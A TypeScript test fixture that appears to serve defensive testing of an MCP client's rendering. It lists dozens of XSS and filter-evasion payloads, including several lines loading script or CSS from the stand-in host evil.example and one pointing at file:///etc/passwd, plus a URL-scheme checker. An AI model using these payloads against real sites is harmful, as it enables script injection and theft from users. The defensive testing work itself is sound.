/**
 * Markup and URL payloads a hostile MCP server might put into any display string, link or
 * media source. Each would set `window.__pwned` (or open a dialog) if it ever became live DOM.
 */
const P = 'window.__pwned=1';

export const XSS_PAYLOADS: readonly string[] = [
  `<script>${P}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script src="data:text/javascript,${P}"></script>`,
  `"><script>${P}</script>`,
  `'><script>${P}</script>`,
  `</title><script>${P}</script>`,
  `</textarea><script>${P}</script>`,
  `<img src=x onerror="${P}">`,
  `<img src="javascript:${P}">`,
  `<IMG SRC=JaVaScRiPt:${P}>`,
  `<img src=x oNeRrOr=${P}//`,
  `<svg onload="${P}">`,
  `<svg><script>${P}</script></svg>`,
  `<svg><animate onbegin="${P}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${P}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
  `<body onload="${P}">`,
  `<iframe src="javascript:${P}"></iframe>`,
  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<object data="javascript:${P}"></object>`,
  `<embed src="javascript:${P}">`,
  `<a href="javascript:${P}">click</a>`,
  `<a href="  javascript:${P}">spaced</a>`,
  `<a href="java&#x09;script:${P}">tab entity</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}">entities</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<form action="javascript:${P}"><button>go</button></form>`,
  `<button formaction="javascript:${P}">x</button>`,
  `<input autofocus onfocus="${P}">`,
  `<details open ontoggle="${P}">`,
  `<video><source onerror="${P}"></video>`,
  `<audio src=x onerror="${P}">`,
  `<marquee onstart="${P}">`,
  `<div style="background:url(javascript:${P})">styled</div>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${P}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<!--<img src="--><img src=x onerror=${P}//">`,
  `<div onmouseover="${P}">hover</div>`,
  `<isindex type=image src=1 onerror=${P}>`,
  `[click](javascript:${P})`,
  `[click](JAVASCRIPT:${P})`,
  `[click](  javascript:${P} )`,
  `[click](vbscript:msgbox(1))`,
  `[data](data:text/html,<script>${P}</script>)`,
  `![img](javascript:${P})`,
  `![img](x "onerror=${P}")`,
  `[ref][r]\n\n[r]: javascript:${P}`,
  `<javascript:${P}>`,
  `javascript:${P}`,
  ` javascript:${P}`,
  `jav\tascript:${P}`,
  `data:text/html,<script>${P}</script>`,
  `file:///etc/passwd`,
  `http://127.0.0.1:1/track.png`,
  `${'<div>'.repeat(200)}deep`,
  `{{constructor.constructor('${P}')()}}`,
  `\u202e<script>${P}</script>`,
];

/** `href`/`src`-like values that must never reach the DOM as URLs. */
export function isDangerousUrl(value: string): boolean {
  // Browsers ignore ASCII whitespace and control characters inside the scheme.
  let squeezed = '';
  for (let i = 0; i < value.length; i += 1) {
    if (value.charCodeAt(i) > 0x20) squeezed += value.charAt(i).toLowerCase();
  }
  return /^(javascript|vbscript|file):/.test(squeezed) || squeezed.startsWith('data:text/html');
}
